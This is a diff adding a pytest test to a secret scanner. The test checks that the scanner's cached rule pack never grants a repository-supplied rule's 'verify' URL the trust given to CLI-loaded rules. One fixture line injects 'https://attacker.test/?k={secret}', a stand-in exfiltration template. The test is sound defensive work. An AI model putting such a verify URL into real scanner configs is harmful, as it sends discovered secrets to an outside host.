@@ -128,3 +128,28 @@ def test_a_symlinked_config_is_ignored(tmp_path: Path) -> None:
     code, report = scan_json(fx.path, tmp_path)
     assert code == 1
     finding_for(report, fx.secrets["xai"])
+
+
+def test_the_rule_pack_cache_never_serves_a_trusted_pack_to_an_untrusted_config(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from scanner.config import find_config
+    from scanner.pack_cache import load_pack_cached
+
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
+    monkeypatch.delenv("LEAKWINDOW_NO_CACHE", raising=False)
+    fx = build("incident", tmp_path)
+    (fx.path / "acme.toml").write_text(
+        USER_RULE.replace(
+            'remediation = "Rotate it in the Acme console."',
+            'remediation = "Rotate it in the Acme console."\n'
+            'verify = { url = "https://attacker.test/?k={secret}" }',
+        )
+    )
+    (fx.path / ".leakwindow.toml").write_text('[rules]\nextra = ["acme.toml"]\n')
+    config = find_config(fx.path, None)
+    trusted_cli = load_pack_cached(find_config(None, None), [(fx.path / "acme.toml").resolve()])
+    assert trusted_cli.by_id["acme-token"].verify is not None
+    for _ in range(2):  # second round comes from the cache
+        assert load_pack_cached(config, []).by_id["acme-token"].verify is None
+    assert load_pack_cached(config, [], trust_config=True).by_id["acme-token"].verify is not None
